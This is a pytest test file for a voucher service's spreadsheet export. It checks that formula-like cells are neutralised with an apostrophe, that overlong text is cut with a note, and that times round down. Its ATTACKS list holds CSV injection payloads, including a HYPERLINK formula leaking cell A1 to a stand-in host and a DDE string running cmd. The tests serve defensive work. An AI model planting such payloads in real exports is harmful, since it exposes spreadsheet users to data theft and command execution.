"""CSV cells no spreadsheet runs (issue 19, finding 4): OWASP's rule, numbers left alone."""

from __future__ import annotations

import pytest

from services.voucher.spreadsheet import MAX_CELL_CHARACTERS, cell, fit_cell, row

ATTACKS = ['=HYPERLINK("http://x/?leak="&A1,"Click")', '+1+cmd|"/C calc"!A0', "@SUM(A1:A9)", "-2+3",
           "=1+2", "\t=1", "\r=1", "-", "+", "=", "@", "-1e3", "+ 1", "-0x10"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_a_spreadsheet_would_evaluate_starts_with_an_apostrophe(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["PO-1", "", "'=already", "订单-1", "-12.34", "+5", "-0.05", "12", "a=b",
                                  " =1", "{\"k\": \"=1\"}", "2026-03-02T01:00:00Z"])
def test_anything_else_is_written_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_a_row_makes_only_its_text_safe() -> None:
    assert row([1, -5, None, "=1", "PO-1", True]) == [1, -5, None, "'=1", "PO-1", True]


def test_text_longer_than_a_cell_holds_is_cut_with_a_note_never_silently() -> None:
    """XlsxWriter cuts a string past Excel's 32,767 characters without a word (an independent
    review exported a 40,000-character value as 32,767)."""
    assert fit_cell("x" * MAX_CELL_CHARACTERS) == "x" * MAX_CELL_CHARACTERS
    cut = fit_cell("x" * 40_000)
    assert len(cut) == MAX_CELL_CHARACTERS
    assert cut.endswith("[cut: 40,000 characters, a cell holds 32,767; the JSON Lines export holds it whole]")


def test_a_time_in_a_workbook_is_the_second_it_fell_in_never_the_next() -> None:
    """Excel shows a date-time to the second by rounding: 23:59:59.6 on a period's last day had
    read as 00:00:00 of the next day. A workbook's time is the second below."""
    from datetime import UTC, datetime

    from services.voucher.spreadsheet import wall_clock

    late = datetime(2026, 3, 31, 15, 59, 59, 600_000, tzinfo=UTC)  # 23:59:59.6 in Beijing
    assert wall_clock(late) == datetime(2026, 3, 31, 23, 59, 59)
